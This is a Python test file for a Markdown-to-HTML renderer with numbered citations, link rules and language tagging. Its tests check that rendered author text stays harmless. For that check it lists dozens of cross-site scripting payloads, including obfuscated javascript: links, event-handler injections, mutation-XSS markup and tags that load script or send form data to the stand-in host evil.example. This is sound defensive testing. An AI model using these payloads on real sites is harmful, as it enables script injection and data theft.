"""What an author writes becomes HTML that can do no harm, with its sources numbered."""

from __future__ import annotations

import re

import jinja2
import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from generator.text.markdown import cited, led_to, prepared, tokens
from generator.text.prose import Prose, citations, numbers, plain
from tests.support.html import seen
from tests.support.prose import prose

TAGS = {"p", "h3", "h4", "ul", "ol", "li", "em", "strong", "a", "blockquote", "br", "sup", "code"}
RIGHT_ADDRESS = re.compile(r"(https?://|mailto:|tel:|geo:|#src-\d+$|/vi/)")


def html_of(markdown: str, *, inline: bool = False) -> str:
    """A text with all its citations known."""
    cites = numbers(citations(markdown))
    html = prose(markdown, (("chua-hai", "/vi/chua-hai/"),), cites, "Nguồn {number}", inline=inline).__html__()
    # The word joiner before a citation is for line breaks alone.
    return html.replace("\u2060", "")


def is_harmless(html: str) -> bool:
    """Only the tags and attributes we mean, no address that runs or leads to nobody knows where, all closed in order."""
    found = seen(html)
    return (
        TAGS >= set(found.tags)
        and {"href", "class", "aria-label"} >= {name for name, _ in found.attributes}
        and all(RIGHT_ADDRESS.match(value) for name, value in found.attributes if name == "href")
        and not found.still_open
        and not found.crossed
    )


# ---- harm -----------------------------------------------------------------------------------------

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    '[x](https://a.vn"onmouseover="alert(1))',
    '[x](https://a.vn "onclick=alert(1)")',
    "![x](x onerror=alert(1))",
    "![x](https://evil.example/track.gif)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import '//evil.example';</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=x>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</p></section></article><h1>x</h1>",
    "<p style=position:fixed onclick=alert(1) id=main>x</p>",
    "<a name=sources id=x>x</a>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03<b>x</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[^s1<script>alert(1)</script>]",
    '[^"onclick="alert(1)]',
)


@pytest.mark.parametrize("inline", [False, True], ids=["block", "inline"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_an_author_can_write_runs_in_a_reader_s_browser(payload, inline):
    assert is_harmless(html_of(f"Trước {payload} sau", inline=inline))
    assert is_harmless(html_of(payload, inline=inline))


SCRAPS = [
    *"aĐ [](){}<>!*_`#|&\\:-/=\n\n\t\"'\x02\x03", "](", "## ", "### ", "\n\n", "<a href=", "![", "https://", "//",
    "javascript:", "&#", "&lt;", "chua-hai", "1. ", "> ", "<!--", "]:", "<script>", "</p>", " onclick=", "<img ", "**",
]  # fmt: skip


@given(
    st.lists(st.sampled_from(SCRAPS), max_size=30).map("".join) | st.text(max_size=30).filter(lambda t: "^" not in t)
)
def test_any_text_at_all_is_harmless(markdown):
    """Citations have tests of their own."""
    assert is_harmless(html_of(markdown))


# ---- citations ------------------------------------------------------------------------------------


def test_sources_are_numbered_by_first_mention():
    assert (("b", 1), ("a", 2), ("c", 3)) == numbers(["b", "a", "b", "c", "a"])


def test_every_mention_counts():
    assert ("s1", "nguồn-2", "s1") == citations("Một.[^s1][^nguồn-2]\n\n- hai[^s1]\n[^ x] [^]")


@pytest.mark.parametrize(
    ("markdown", "cited"),
    [
        (r"Một \[^s1\] và \[^s2] hay [^s3].", ("s3",)),
        (r"Một \\[^s1].", ("s1",)),
        ("[báo](https://bao.example/[^s1]) và [^s2]", ("s2",)),
        ("<https://bao.example/[^s1]> [^s2]", ("s2",)),
        ("`[^s1]` [^s2]", ("s2",)),
        ("[a]: https://bao.example/[^s1]\n\nMột [a].[^s2]", ("s2",)),
        ("[báo[^s1]](https://bao.example)", ("s1",)),
    ],
)
def test_what_only_looks_like_a_citation_cites_nothing(markdown, cited):
    assert cited == citations(markdown)


@given(st.text("[]^s12\\`<>()!*_~:#- \n|&;a", max_size=40))
def test_a_text_cites_what_its_reader_sees_as_a_number(markdown):
    """Whether it was read for it or only looked through."""
    read = [child for token in tokens(markdown) for child in token.children or () if child.type == "citation"]
    shown = [token for token in tokens(markdown) if token.type in ("code_block", "fence", "too_deep")]

    assume(not shown)  # each of these is a problem, and no page is made
    assert tuple(child.content for child in read) == citations(markdown)


def test_a_citation_is_a_number_that_leads_to_its_source():
    html = html_of("Một.[^b] Hai.[^a] Ba.[^b]")

    assert (
        '<p>Một.<sup class="cite"><a aria-label="Nguồn 1" href="#src-1">1</a></sup>'
        ' Hai.<sup class="cite"><a aria-label="Nguồn 2" href="#src-2">2</a></sup>'
        ' Ba.<sup class="cite"><a aria-label="Nguồn 1" href="#src-1">1</a></sup></p>'
    ) == html


@pytest.mark.parametrize("source", ["s1", "báo-1", "1", "a.b", "a:b", "S_1"])
def test_a_source_s_id_is_any_word(source):
    found = seen(html_of(f"Một câu.[^{source}]"))

    assert ["p", "sup", "a"] == found.tags
    assert "Một câu.1" == found.text


def test_a_citation_does_not_begin_a_line():
    """In Chinese a line may break anywhere, but not before the number."""
    assert "。\u2060<sup" in prose("一句。[^s1]", cites=(("s1", 1),)).__html__()


@pytest.mark.parametrize(
    "text", ["[x](https://a.vn/[^s1]b)", "<https://a.vn/[^s1]b>", "[x][1]\n\n[1]: https://a.vn/[^s1]b"]
)
def test_what_looks_like_a_citation_inside_an_address_does_not_tear_the_page(text):
    assert is_harmless(html_of(text))


@pytest.mark.parametrize("text", ["\\[^s9]", "&#91;^s9]", "`[^s9]`", "[\\^s9]"])
def test_a_citation_of_nothing_is_shown_as_it_is(text):
    """An author who escapes a bracket means a bracket."""
    shown = seen(prose(f"Một {text} câu.[^s1]", cites=(("s1", 1),)).__html__())

    assert "s9]" in shown.text


@pytest.mark.parametrize(
    "text", ["Một câu.[^s1]\n\n[^s1]: https://bao.vn", "Một câu.[^s1](chua-hai)", "[^s1]: Một câu."], ids=range(3)
)
def test_a_citation_stays_a_citation_whatever_stands_around_it(text):
    """Authors who know footnotes define them; to Markdown that is the address of a link."""
    assert '<sup class="cite"><a aria-label="Nguồn 1" href="#src-1"' in html_of(text)


@pytest.mark.parametrize("text", ["Một câu[^s1]", "*Một câu[^s1]*", "Một **câu[^s1]** dài"])
def test_a_citation_inside_a_link_is_no_link_inside_a_link(text):
    """HTML has no such thing: a browser would end the first where the second begins."""
    html = html_of(f"[{text}](https://bao.vn)")

    assert not re.search(r"<a [^>]*>(?:(?!</a>).)*<a ", html)
    assert re.search(r'<sup class="cite"><a [^>]*href="#src-1"[^>]*>1</a></sup>', html)


# ---- links ----------------------------------------------------------------------------------------


def test_a_link_to_a_relic_leads_to_its_page():
    assert ("href", "/vi/chua-hai/") in seen(html_of("[chùa](chua-hai)")).attributes


def test_a_link_to_a_relic_that_is_not_published_is_text():
    """A draft's."""
    found = seen(html_of("[đình](dinh-mot)"))

    assert ([], "đình") == ([value for name, value in found.attributes if name == "href"], found.text)


@pytest.mark.parametrize(
    "address",
    ["https://bao.vn/a?b=1&c=2", "http://bao.vn", "mailto:a@b.vn", "tel:+84292", "geo:10.1,105.6", "Https://bao.vn"],
)
def test_a_link_out_leads_where_the_author_said(address):
    """Phones begin a word with a capital."""
    assert ("href", address.lower()) in [
        (name, value.lower()) for name, value in seen(html_of(f"[x]({address})")).attributes
    ]


# ---- text -----------------------------------------------------------------------------------------


def test_words_between_backticks_are_shown_as_code_and_read_out_in_their_own_script():
    made = prose("Ở `10.8727, 103.70975` và `庙 <b>`", language="vi").__html__()
    assert "<code>10.8727, 103.70975</code>" in made
    assert '<code><span lang="zh">庙</span> &lt;b&gt;</code>' in made


def test_markdown_is_what_volunteers_know_of_it():
    assert (
        "<h3>Một</h3>\n<p><strong>đậm</strong> <em>nghiêng</em></p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol>\n<li>c</li>\n</ol>"
        "\n<blockquote>\n<p>d</p>\n</blockquote>"
    ) == html_of("### Một\n\n**đậm** *nghiêng*\n\n- a\n- b\n\n1. c\n\n> d")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Ba lớp:\n- trên\n- dưới", "<p>Ba lớp:</p>\n<ul>\n<li>trên</li>\n<li>dưới</li>\n</ul>"),
        ("- mái\n  - ngói\n- nền", "<ul>\n<li>mái\n<ul>\n<li>ngói</li>\n</ul>\n</li>\n<li>nền</li>\n</ul>"),
        ("3. ba\n4. bốn", '<ol start="3">\n<li>ba</li>\n<li>bốn</li>\n</ol>'),
        ("một  \nhai\\\nba", "<p>một<br>\nhai<br>\nba</p>"),
        ("> một\n>\n> - hai", "<blockquote>\n<p>một</p>\n<ul>\n<li>hai</li>\n</ul>\n</blockquote>"),
    ],
    ids=["glued list", "nested list", "start", "hard breaks", "list in a quotation"],
)
def test_a_text_is_shown_as_github_s_preview_shows_it(text, html):
    """It is where volunteers look first."""
    assert html == html_of(text)


def test_a_line_inside_a_sentence_has_no_paragraph_around_it():
    assert "Một <em>câu</em>." == html_of("Một *câu*.", inline=True)


@given(
    st.lists(
        st.sampled_from([*"aĐ1 .-+*_`#[](){}<>!&;^\\~|:=\"'$", "s1", "&lt;", "&#91;", "http://", "- "]),
        min_size=1,
        max_size=16,
    ).map("".join)
)
def test_text_that_is_not_markdown_is_shown_letter_by_letter(text):
    """Addresses, names and numbers of decisions: 1. and - and & are part of them."""
    shown = seen(prose(plain(text), inline=True).__html__())

    assert " ".join(text.split()) == " ".join(shown.text.split())
    assert [] == shown.tags


def test_a_template_prints_it_as_it_is():
    """Everything else a template prints is escaped."""
    template = jinja2.Environment(autoescape=True).from_string("{{ a }}{{ b }}")

    assert "<p>a &lt; b</p>a &lt; b" == template.render(a=prose("a < b"), b="a < b")


def test_one_text_leaves_nothing_behind_for_the_next():
    """One parser serves the whole process."""
    html_of("[x][1]\n\n[1]: https://bao.vn")

    assert "<p>[x][1]</p>" == html_of("[x][1]")


# ---- languages inside a text ----------------------------------------------------------------------


def test_words_in_the_script_of_another_language_are_marked_as_its_own() -> None:
    """WCAG 2.2, 3.1.2."""
    text = "Chữ 灵山古庙, tiếng Khmer វត្តពោធិ៍ [*古庙*](https://thu.example/)"
    html = prose(text, inline=True, language="vi").__html__()

    assert 'Chữ <span lang="zh">灵山古庙</span>, tiếng Khmer <span lang="km">វត្តពោធិ៍</span> <a' in html
    assert '<em><span lang="zh">古庙</span></em></a>' in html
    assert ["km"] == re.findall(r'lang="(\w+)"', prose(text, language="zh").__html__())
    assert ["zh", "zh"] == re.findall(r'lang="(\w+)"', prose(text, language="km").__html__())


@pytest.mark.parametrize("sign", ["\x02", "\x03", "&#2;", "&#x3;", "\\\x02"])
@pytest.mark.parametrize("text", ["{0}s1{1}", "[a](chua-hai{1}b)", "[a](<{0}chua-hai{1}>)", "[^s1{1}]", "`{0}s1{1}`"])
def test_no_text_can_pretend_to_be_what_a_page_fills_in(text, sign):
    html = prepared(text.format("\x02" if sign == "\x03" else sign, sign), "vi")

    assert html.count("\x02") == html.count("\x03") == len([*cited(html), *led_to(html)]) <= 1
    assert is_harmless(Prose(html, (("chua-hai", "/vi/chua-hai/"),), (("s1", 1),)).__html__())
